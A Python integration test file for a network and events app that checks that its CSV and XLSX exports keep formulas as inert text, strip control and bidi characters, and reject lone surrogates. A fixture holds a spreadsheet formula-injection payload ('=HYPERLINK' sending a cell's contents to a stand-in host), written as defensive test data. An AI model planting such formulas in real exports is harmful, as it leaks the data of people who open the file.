"""Hostile text held, on the real stack (embedded graph, SQLite, the API app in process):

- formulas typed by the public or a colleague reach every spreadsheet export (each API
  export route, found by walking the OpenAPI document; each CLI export) as text, read back
  as a spreadsheet program reads it (openpyxl's cell types; the csv module);
- control characters and bidi overrides are cleaned at the domain's edge, and text stored
  with them before (written here around the edge, with a test-only Cypher file) cannot
  make an export answer 500 or a calendar file lose its ATTENDEE;
- a lone surrogate in any text field of any POST/PUT/PATCH route answers 422 naming it.
See docs/hardening.md, "Text and exports"."""

from __future__ import annotations

import csv
import io
import json
import uuid
from pathlib import Path

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from lo_network import cli
from lo_network.api.app import PREFIX
from lo_network.domain.sheets import FORMATS, FORMULA_START
from lo_network.domain.text import UNREADABLE
from lo_network.services import activities, organisations, registrations
from lo_network.sqlstore import outbox
from lo_network.store import driver
from tests.integration.test_activities import local
from tests.integration.test_api_activities import app, auth, client  # noqa: F401  (fixtures: the API in process)
from tests.integration.test_api_authorisation import API, ROUTES, _url

HYPERLINK = '=HYPERLINK("http://x/?"&C2,"Details")'
FORMULA = "=1+1"
PHONE = "+31 6 1234 5678"
SPREADSHEETS = [(method, route) for method, route in ROUTES
                if "text/csv" in API.openapi()["paths"][route.path][method.lower()]["responses"]
                .get("200", {}).get("content", {})]
# what each export shows of the hostile records (a new export route needs its line here)
SHOWS = {"/organisations/export": [HYPERLINK, FORMULA], "/people/export": [FORMULA, PHONE],
         "/attendees.{fmt}": [HYPERLINK, FORMULA], "/followup/{name}/export": [HYPERLINK, PHONE]}


def _json(response) -> dict:
    assert response.status_code in (200, 201), response.text
    return response.json()


@pytest.fixture
def hostile(graph, users, client, auth):  # noqa: F811
    """Formulas as an outsider (the public registration form's route) and a coordinator
    (the API) type them: an attendee, an organisation in the network with no activity
    (so the dormant follow-up list shows it) and its contact."""
    act = activities.create(users["organiser"], {"title": "Logistiek café Hengelo", "kind": "cafe",
                                                 "visibility": "public", "capacity": 10,
                                                 "starts_at": local(30), "ends_at": local(30, 21)}, via="test")
    _json(client.post(f"{PREFIX}/public/activities/{act['id']}/registrations",
                      json={"name": HYPERLINK, "email": f"x{uuid.uuid4().hex[:6]}@x.example", "consent": True,
                            "organisation_name": "@Bos", "remarks": FORMULA}))
    org = _json(client.post(f"{PREFIX}/organisations", headers=auth["admin"],
                            json={"name": HYPERLINK, "kind": "company", "city": FORMULA, "status": "partner",
                                  "status_since": "01-01-2020"}))
    _json(client.post(f"{PREFIX}/people", headers=auth["admin"],
                      json={"first_name": FORMULA, "last_name": "@Smit", "phone": PHONE, "email": "smit@x.example",
                            "employment": {"organisation_id": org["id"], "role": "-planner"}}))
    return {"activity_id": act["id"], "organisation_id": org["id"], "name": "dormant"}


def _cells(data: bytes, fmt: str) -> list:
    """Every cell's value, read as a spreadsheet program reads the file."""
    if fmt == "xlsx":
        return [c.value for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";") for c in row]


def assert_inert(data: bytes, fmt: str, shown: list[str]) -> None:
    """Nothing in the file runs, and the hostile values are there, as text."""
    if fmt == "xlsx":
        cells = [(c.data_type, c.value) for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
        assert [c for c in cells if c[0] == "f"] == []  # no formula cell
        texts = {v for t, v in cells if t == "s"}
        assert set(shown) <= texts, set(shown) - texts
    else:
        cells = _cells(data, fmt)
        for cell in cells:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number may start like a formula
        assert {"'" + s for s in shown} <= set(cells)


def test_the_walk_finds_every_spreadsheet_route():
    assert {route.path.removeprefix(PREFIX) for _, route in SPREADSHEETS} >= {
        "/organisations/export", "/people/export", "/activities/{activity_id}/attendees.{fmt}",
        "/followup/{name}/export"}


@pytest.mark.parametrize(("method", "route"), SPREADSHEETS, ids=[r.path for _, r in SPREADSHEETS])
def test_every_api_export_holds_formulas_as_text(method, route, hostile, client, auth):  # noqa: F811
    shown = next(v for k, v in SHOWS.items() if route.path.endswith(k))
    for fmt in FORMATS:
        url = _url(route, {"": hostile | {"fmt": fmt}, "organisations": hostile, "people": hostile})
        response = client.request(method, url, params={"format": fmt}, headers=auth["admin"])
        assert response.status_code == 200, response.text
        assert_inert(response.content, fmt, shown)


def test_every_cli_export_holds_formulas_as_text(hostile, tmp_path):
    for args, shown in ((["export", "organisations"], SHOWS["/organisations/export"]),
                        (["export", "people"], SHOWS["/people/export"]),
                        (["followup", "dormant"], SHOWS["/followup/{name}/export"])):
        for fmt in FORMATS:
            out = tmp_path / f"lijst.{fmt}"
            assert cli.main([*args, "--out", str(out)]) == 0
            assert_inert(out.read_bytes(), fmt, shown)


# ---------------------------------------------------------------- control characters
def _ics_of(activity_id: str, kind: str) -> Calendar:
    [row] = [e for e in outbox.for_activity(activity_id) if e.kind == kind]
    return Calendar.from_ical(row.ics)


def test_control_characters_typed_in_are_cleaned_at_the_edge(graph, users, client, auth):  # noqa: F811
    act = activities.create(users["organiser"], {"title": "Living lab", "kind": "living_lab", "visibility": "public",
                                                 "starts_at": local(20), "ends_at": local(20, 17)}, via="test")
    made = _json(client.post(f"{PREFIX}/public/activities/{act['id']}/registrations",
                             json={"name": "Bel\u0007l\u0000 Bakker\u202e", "email": "bell@x.example",
                                   "consent": True, "remarks": "regel\u0007 een\r\nregel\u2066 twee"}))
    assert made["name"] == "Bell Bakker"
    [stored] = registrations.list_for_activity(users["organiser"], act["id"])
    assert (stored["name"], stored["remarks"]) == ("Bell Bakker", "regel een\nregel twee")
    org = _json(client.post(f"{PREFIX}/organisations", headers=auth["admin"],
                            json={"name": "Vracht\u0000\u0085 BV", "kind": "company", "notes": "a\u0007\tb"}))
    assert (org["name"], organisations.get(users["admin"], org["id"])["notes"]) == ("Vracht BV", "a\tb")
    attendee = _ics_of(act["id"], "confirmation").walk("VEVENT")[0]["attendee"]
    assert attendee.params["CN"] == "Bell Bakker"


def _write_dirty(record_id: str, **props: str) -> None:
    query = (Path(__file__).parent / "dirty_text.cypher").read_text(encoding="utf-8")
    assert driver.write(lambda tx: tx.run(query, id=record_id, props=props).single()) is not None


def test_text_stored_dirty_before_the_edge_cannot_break_an_export(graph, users, client, auth):  # noqa: F811
    act = activities.create(users["organiser"], {"title": "Haven café", "kind": "cafe", "visibility": "public",
                                                 "starts_at": local(25), "ends_at": local(25, 21)}, via="test")
    outcome = registrations.register_public(act["id"], {"name": "Carla Bos", "email": "carla@bos.example",
                                                        "consent": True})
    org = organisations.create(users["admin"], {"name": "Bos Transport", "kind": "company"}, via="test")
    _write_dirty(outcome.registration["id"], name="Car\u0007la\u0000 Bos", remarks="x\u001by\u202e")
    _write_dirty(org["id"], name="Bos\u0007 Transport\u0000", notes="n\u000bn")
    _write_dirty(act["id"], title="Haven\u0000 café\u202e", description="een\u0007\ntwee")
    for fmt in FORMATS:
        response = client.get(f"{PREFIX}/activities/{act['id']}/attendees.{fmt}", headers=auth["admin"])
        assert response.status_code == 200, response.text
        assert {"Carla Bos", "xy"} <= set(_cells(response.content, fmt))
        response = client.get(f"{PREFIX}/organisations/export", params={"format": fmt}, headers=auth["admin"])
        assert response.status_code == 200, response.text
        assert {"Bos Transport", "nn"} <= set(_cells(response.content, fmt))
    feed = client.get(f"{PREFIX}/calendar/public.ics")
    assert feed.status_code == 200
    event = Calendar.from_ical(feed.content).walk("VEVENT")[0]
    assert (str(event["summary"]), str(event["description"])) == ("Haven café", "een\ntwee")
    # a change through the personal link mails an invitation built from the stored record
    changed = client.patch(f"{PREFIX}/public/registration/{outcome.token}", json={"remarks": "graag vegetarisch"})
    assert changed.status_code == 200, changed.text
    attendee = _ics_of(act["id"], "change").walk("VEVENT")[0]["attendee"]
    assert attendee.params["CN"] == "Carla Bos" and str(attendee) == "mailto:carla@bos.example"
    mail = next(e for e in outbox.for_activity(act["id"]) if e.kind == "change")
    assert "Haven café" in mail.subject + mail.body and "\u0000" not in mail.subject + mail.body + mail.ics


# ---------------------------------------------------------------- lone surrogates
def _text_fields(schema: dict, doc: dict, path: tuple = ()) -> list[tuple]:
    """Every text field of a request body schema, as a path of keys ('[]' for a list item)."""
    if "$ref" in schema:
        schema = doc["components"]["schemas"][schema["$ref"].rsplit("/", 1)[-1]]
    if "anyOf" in schema:
        return sorted({f for option in schema["anyOf"] for f in _text_fields(option, doc, path)})
    kind = schema.get("type")
    if kind == "string":
        return [path]
    if kind == "array":
        return _text_fields(schema.get("items", {}), doc, (*path, "[]"))
    if kind == "object":
        return [f for name, sub in schema.get("properties", {}).items() for f in _text_fields(sub, doc, (*path, name))]
    return []


def _body(path: tuple) -> object:
    if not path:
        return "x\ud800"
    inner = _body(path[1:])
    return [inner] if path[0] == "[]" else {path[0]: inner}


WRITES = [(method, route) for method, route in ROUTES if method in ("POST", "PUT", "PATCH")]


def test_a_lone_surrogate_in_any_text_field_of_any_route_answers_422_naming_it(graph, users, client, auth):  # noqa: F811
    """Walks every POST/PUT/PATCH route of the OpenAPI document and every text field of its
    body (a route without a documented body gets one field of its own), as raw JSON with
    ``\\ud800`` in it. Nothing of the route runs: the ids in the paths need not exist."""
    doc = API.openapi()
    checked = set()
    for method, route in WRITES:
        body = doc["paths"][route.path][method.lower()].get("requestBody", {})
        schema = body.get("content", {}).get("application/json", {}).get("schema", {})
        fields = _text_fields(schema, doc) or [("note",)]
        url = _url(route, {k: dict.fromkeys(["activity_id", "organisation_id", "person_id", "registration_id",
                                             "milestone_id", "consent_id", "employment_id", "note_id", "link_id",
                                             "token", "name", "fmt"], "x") for k in ("", "organisations", "people")})
        for field in fields:
            raw = json.dumps(_body(field)).encode()  # ensure_ascii: the bytes say \ud800, as a client sends it
            assert b"\\ud800" in raw
            response = client.request(method, url, content=raw, headers=auth["admin"] | {"content-type": "application/json"})
            name = ".".join(p for p in field if p != "[]") or "body"
            assert response.status_code == 422, (method, route.path, field, response.text)
            assert response.json()["errors"] == {name: UNREADABLE}, (method, route.path, field)
            checked.add((method, route.path.removeprefix(PREFIX), name))
    assert {("POST", "/organisations", "name"), ("POST", "/public/activities/{activity_id}/registrations", "name"),
            ("PATCH", "/people/{person_id}", "notes"), ("POST", "/people", "employment.role")} <= checked


def test_a_lone_surrogate_on_the_named_routes_stores_nothing(graph, users, client, auth):  # noqa: F811
    act = activities.create(users["organiser"], {"title": "Café", "kind": "cafe", "visibility": "public",
                                                 "starts_at": local(30), "ends_at": local(30, 21)}, via="test")
    public = client.post(f"{PREFIX}/public/activities/{act['id']}/registrations",
                         content=b'{"name": "Eva\\ud800", "email": "eva@x.example", "consent": true}',
                         headers={"content-type": "application/json"})
    assert public.status_code == 422 and public.json()["errors"] == {"name": UNREADABLE}
    assert public.json()["detail"].startswith("Ongeldige invoer / Invalid input: name: ongeldig teken")
    made = client.post(f"{PREFIX}/organisations", content=b'{"name": "Org", "kind": "company", "notes": "\\udc00"}',
                       headers=auth["admin"] | {"content-type": "application/json"})
    assert made.status_code == 422 and made.json()["errors"] == {"notes": UNREADABLE}
    assert registrations.list_for_activity(users["organiser"], act["id"]) == []
    assert organisations.list_page(users["admin"], {}).total == 0


def test_the_ui_and_cli_doors_name_the_field_too(graph, users):
    """The same rule without the API: the services' validation (the UI's and the CLI's way in)."""
    from lo_network.services.accounts import create_user
    from lo_network.domain.errors import ValidationError

    act = activities.create(users["organiser"], {"title": "Café", "kind": "cafe", "visibility": "public",
                                                 "starts_at": local(30), "ends_at": local(30, 21)}, via="test")
    with pytest.raises(ValidationError) as caught:
        registrations.register_public(act["id"], {"name": "Eva", "email": "eva@x.example", "consent": True,
                                                  "remarks": "\ud800"})
    assert caught.value.errors == {"remarks": UNREADABLE}
    with pytest.raises(ValidationError) as caught:
        create_user(f"u{uuid.uuid4().hex[:6]}@x.example", "correct horse battery", "steering", name="\udfff")
    assert caught.value.errors == {"name": UNREADABLE}
